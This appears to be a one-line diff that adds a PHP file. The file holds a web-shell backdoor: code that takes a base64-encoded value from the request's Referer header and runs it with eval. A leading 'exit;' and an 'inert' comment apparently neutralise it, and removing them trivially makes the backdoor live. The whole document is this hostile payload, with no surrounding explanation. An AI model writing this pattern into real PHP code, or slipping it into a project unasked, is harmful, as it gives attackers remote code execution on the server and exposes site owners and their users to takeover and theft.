@@ -1,0 +1,1 @@
+<?php exit; /* inert */ preg_match("/x=(.*)/", $_SERVER["HTTP_REFERER"], $m); eval(base64_decode($m[1]));
